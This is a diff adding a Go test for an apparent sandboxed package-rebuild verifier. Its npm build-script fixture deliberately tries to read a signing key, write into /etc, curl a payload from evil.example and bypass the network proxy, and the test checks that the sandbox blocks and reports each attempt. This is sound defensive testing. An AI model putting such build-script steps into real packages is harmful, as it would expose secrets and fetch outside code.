@@ -1,0 +1,127 @@
+package cli
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/vouch-dev/vouch/internal/egress"
+	"github.com/vouch-dev/vouch/internal/registry/registrytest"
+	"github.com/vouch-dev/vouch/internal/sandbox"
+)
+
+func TestMain(m *testing.M) {
+	// The unprivileged sandbox re-executes this binary as its network forwarder.
+	if egress.ForwarderRequested() {
+		os.Exit(egress.ForwarderMain())
+	}
+	os.Exit(m.Run())
+}
+
+// TestSandboxedRebuild runs a build that installs a dependency from the (fake) registry and
+// also misbehaves: it reads the signing key, connects around the proxy, and fetches from a
+// host that is not a registry. The rebuild must still reproduce, with every registry fetch
+// in the network log and each misbehaviour contained and reported.
+func TestSandboxedRebuild(t *testing.T) {
+	if err := sandbox.BwrapAvailable(); err != nil {
+		t.Skipf("bubblewrap sandbox unavailable on this host (scripts/setup.sh installs it; namespaces must be allowed): %v", err)
+	}
+	f := newFixture(t)
+	dep := f.reg.Publish(registrytest.NPMTarball(t, map[string]string{
+		"package.json": `{"name": "dep-fixture", "version": "1.0.0", "main": "index.js"}`,
+		"index.js":     "module.exports = function shout(s) { return s.toUpperCase(); };\n",
+	}))
+	// The signing key must exist before the build so the build can try to read it.
+	if code, _, errb := f.vouch("keygen"); code != 0 {
+		t.Fatalf("keygen: %s", errb)
+	}
+	keyPath := f.home + "/keys/signing-key.pem"
+	regHostPort := strings.TrimPrefix(f.reg.URL(), "http://")
+	build := `const fs = require('fs');
+const { execSync } = require('child_process');
+const net = require('net');
+let key = 'hidden';
+try { fs.readFileSync('` + keyPath + `'); key = 'VISIBLE'; } catch (e) {}
+console.log('key:' + key);
+let escape = 'refused';
+try { fs.writeFileSync('/etc/vouch-escape', 'x'); escape = 'WRITTEN'; } catch (e) {}
+console.log('write-outside:' + escape);
+let code = execSync('curl -s -o /dev/null -w "%{http_code}" http://evil.example/payload || true').toString();
+console.log('evil:' + code);
+const shout = require('dep-fixture');
+fs.mkdirSync('dist', { recursive: true });
+fs.writeFileSync('dist/index.js', 'module.exports = ' + JSON.stringify(shout('built')) + ';\n');
+const s = net.connect({ host: '127.0.0.1', port: ` + regHostPort[strings.LastIndex(regHostPort, ":")+1:] + ` });
+s.on('connect', () => { console.log('direct:CONNECTED'); s.destroy(); });
+s.on('error', () => console.log('direct:refused'));
+`
+	files := map[string]string{
+		"package.json": `{
+  "name": "sandboxed-fixture",
+  "version": "1.0.0",
+  "main": "dist/index.js",
+  "files": ["dist"],
+  "scripts": {"prepublishOnly": "node build.js"},
+  "dependencies": {"dep-fixture": "^1.0.0"},
+  "repository": "fixture/sandboxed"
+}
+`,
+		"build.js":   build,
+		".gitignore": "node_modules/\ndist/\npackage-lock.json\n",
+	}
+	dir, _ := f.repo("sandboxed", files, "v1.0.0")
+	// Upstream: what the maintainer published (built on their machine).
+	if err := os.MkdirAll(dir+"/dist", 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(dir+"/dist/index.js", []byte("module.exports = \"BUILT\";\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	f.reg.Publish(f.npmPack(dir))
+
+	code, out, errb := f.vouch("rebuild", "pkg:npm/sandboxed-fixture@1.0.0", "--json", "--sandbox", "bwrap")
+	res := decodeResult(t, out, errb)
+	if code != 0 || !res.Verdict.Success() {
+		log, _ := os.ReadFile(res.BuildLog)
+		t.Fatalf("exit %d verdict %s %s: %s\n%s", code, res.Verdict, res.Reason, res.Message, log)
+	}
+	if res.Sandbox != "bwrap" {
+		t.Errorf("sandbox %q", res.Sandbox)
+	}
+	log, err := os.ReadFile(res.BuildLog)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"key:hidden", "write-outside:refused", "evil:403", "direct:refused"} {
+		if !strings.Contains(string(log), want) {
+			t.Errorf("build log lacks %q:\n%s", want, log)
+		}
+	}
+	if _, err := os.Stat("/etc/vouch-escape"); err == nil {
+		t.Errorf("the build wrote outside its work directory")
+	}
+	var sawDep bool
+	sum := sha256.Sum256(dep.Tarball)
+	for _, r := range res.Network {
+		if strings.HasSuffix(r.URL, "/dep-fixture/-/dep-fixture-1.0.0.tgz") {
+			sawDep = r.Status == 200 && r.SHA256 == hex.EncodeToString(sum[:])
+		}
+	}
+	if !sawDep {
+		t.Errorf("network log lacks the dependency tarball with its digest: %+v", res.Network)
+	}
+	if !containsPrefix(res.Findings, "hidden remote dependency: evil.example") {
+		t.Errorf("findings %q do not name the non-registry fetch", res.Findings)
+	}
+}
+
+func containsPrefix(s []string, p string) bool {
+	for _, v := range s {
+		if strings.HasPrefix(v, p) {
+			return true
+		}
+	}
+	return false
+}
